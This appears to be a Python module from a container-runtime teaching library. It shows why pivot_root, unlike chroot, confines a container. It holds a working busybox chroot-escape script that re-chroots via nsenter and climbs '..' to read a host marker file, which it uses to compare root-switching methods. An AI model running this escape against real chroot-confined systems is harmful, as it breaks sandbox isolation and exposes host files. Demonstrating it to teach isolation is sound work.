"""The chroot escape: why a container's root is switched with pivot_root(2), not chroot(2).

chroot(2) changes one thing: the directory from which the calling process resolves "/". The
kernel stops ".." there, and only there. A process whose working directory lies outside its root
never meets that directory on its way up, so ".." takes it to the real root of the mount
namespace: the host's. The classic escape (lesson 05) arranges exactly that from inside: a
second chroot(2) into a subdirectory, *without* changing the working directory (chroot(2): "This
call does not change the current working directory"), then ".." until nothing changes.

After pivot_root(2) and detaching the old root, the host's root is not in the container's mount
namespace any more. The same climb ends at the container's own `/`: there is nothing above it.

`SCRIPT` is the escape as a shell script for the embedded busybox rootfs. No compiler and no extra
program are needed: busybox's `chroot` applet calls chdir("/") after chroot(2), the safe order,
but its `nsenter --root=DIR --wd=WD` opens WD *before* chroot(2) and fchdir(2)s into it after,
the unsafe order the escape needs. The inner root is `/bin`, because the busybox program lives
there and must still be found after the chroot.

See also: chroot(2), pivot_root(2), path_resolution(7), nsenter(1), busybox(1); lesson 05.
Left out: escapes through a directory fd opened before the switch (CVE-2024-21626,
lesson 23), and through a host /proc (lesson 03 mounts a fresh one).
"""

from __future__ import annotations

import os
import secrets
from collections import namedtuple
from collections.abc import Collection, Mapping
from typing import Any

from pycontain import procfs, runtime, syscalls
from pycontain.errors import PycontainError
from pycontain.fs import rootfs

#: the escape, run as `sh -c SCRIPT escape MARKER` inside the container (busybox rootfs)
SCRIPT = r"""# 1. a second chroot(2), into /bin, that leaves the working directory at the old "/"
cd /
exec nsenter --root=/bin --wd=/ /busybox sh -c '
  # 2. climb: ".." stops only at our root (now /bin, below us) or at the namespace root
  i=0
  while [ $i -lt 64 ]; do cd -P ..; i=$((i + 1)); done
  # 3. show where we got to, then read the marker relative to it
  /busybox ls -1A .
  echo --
  exec /busybox cat ".$1"
' escape "$1"
"""

#: a line the escape prints between the listing and the marker
SEPARATOR = "--"


class Marker(namedtuple("Marker", "path secret")):
    """A file on the host holding a random `secret`: read it, and you were outside."""

    __slots__ = ()


class Attempt(namedtuple("Attempt", "root_switch reached read result")):
    """What one escape attempt saw: `reached`, the names in the directory the climb ended in;
    `read`, what it read from the marker's path (None when it could not); the container's
    `result`."""

    __slots__ = ()

    def escaped(self, marker: Marker) -> bool:
        """True when the container read the host's marker."""
        return self.read == marker.secret


def pivot_without_detach(root: str) -> None:
    """Lesson 05's half-way switch, to record with `rootfs.record`: pivot_root(2) with the old
    root left mounted on top of the new one, so that the escape still finds it."""
    syscalls.chdir(root)
    syscalls.pivot_root(".", ".")
    syscalls.chdir("/")


def place_marker(directory: str | os.PathLike[str]) -> Marker:
    """Write a file holding a fresh random secret in `directory` (a `pycontain-` temp dir)."""
    path = os.path.join(os.fspath(directory), "marker")
    secret = secrets.token_hex(16)
    with open(path, "w") as f:
        f.write(secret + "\n")
    return Marker(path, secret)


#: what the escape runs inside the rootfs: busybox itself (as /busybox) and two applets
TOOLS = ("busybox", "sh", "nsenter")


def attempt(marker: Marker, rootfs_dir: str | os.PathLike[str] | None = None, *,
            root_switch: str | Collection[Any] = "pivot_root",
            timeout_s: float = 20.0, **options: Any) -> Attempt:
    """Run `SCRIPT` in a container on `rootfs_dir` (default: the embedded one) and report.

    `root_switch` is "pivot_root", "chroot", or calls recorded with `rootfs.record()`; other
    options go to `pycontain.run`.
    """
    root = str(rootfs_dir if rootfs_dir is not None else rootfs.ensure())
    rootfs.require_tools(root, *TOOLS)
    result = runtime.run(["sh", "-c", SCRIPT, "escape", marker.path], rootfs=root,
                         root_switch=root_switch, timeout_s=timeout_s, **options)
    listing, separator, rest = result.stdout.partition(f"\n{SEPARATOR}\n")
    if not separator:
        raise PycontainError(f"the escape did not run ({result.reason}): "
                             f"{result.stderr.strip()[-300:]}")
    read = rest.strip() if result.status == 0 else None
    return Attempt(root_switch, tuple(sorted(listing.split())), read, result)


def mounts_inside(rootfs_dir: str | os.PathLike[str] | None = None, *,
                  root_switch: str | Collection[Any] = "pivot_root",
                  **options: Any) -> list[procfs.Mount]:
    """The mounts a container lists in its own /proc/self/mountinfo."""
    root = str(rootfs_dir if rootfs_dir is not None else rootfs.ensure())
    result = runtime.run(["cat", "/proc/self/mountinfo"], rootfs=root, root_switch=root_switch,
                         timeout_s=20.0, **options)
    if result.status != 0:
        raise PycontainError(f"`cat /proc/self/mountinfo` {result.reason}: {result.stderr}")
    return [procfs.Mount.parse(line) for line in result.stdout.splitlines() if line.strip()]


def foreign_mounts(mounts: list[procfs.Mount]) -> list[str]:
    """Mount points that `rootfs.enter` did not make: what is left of the old root.

    >>> m = [procfs.Mount.parse(f"1 0 8:1 / {p} rw - ext4 /dev/sda rw") for p in ("/", "/work")]
    >>> foreign_mounts(m)
    ['/work']
    """
    own = ("/", *(f"/{name}" for name in rootfs.MOUNT_POINTS))
    return [m.mount_point for m in mounts
            if m.mount_point not in own and not m.mount_point.startswith(("/dev/", "/proc/"))]


def figure(counts: Mapping[str, int], escaped: Mapping[str, bool]) -> Any:
    """Bars: how many mounts each way of switching the root leaves in sight, marked with
    whether the escape read the host's marker."""
    from pycontain.observe.plot import Picture

    fig = Picture(figsize=(7, 3.2))
    ax = fig.add_subplot()
    labels = list(counts)
    colours = ["tab:red" if escaped.get(k) else "tab:green" if k in escaped else "tab:grey"
               for k in labels]
    bars = ax.bar(labels, [counts[k] for k in labels], color=colours)
    for bar, key in zip(bars, labels, strict=True):
        note = "" if key not in escaped else ("escaped" if escaped[key] else "stayed in")
        ax.annotate(note, (bar.get_x() + bar.get_width() / 2, bar.get_height()),
                    ha="center", va="bottom")
    ax.set_xlabel("how the container's root was switched")
    ax.set_ylabel("mounts in /proc/self/mountinfo\n(count)")
    ax.set_title("red: the escape read the host's marker; green: it could not")
    ax.margins(y=0.2)
    fig.tight_layout()
    return fig
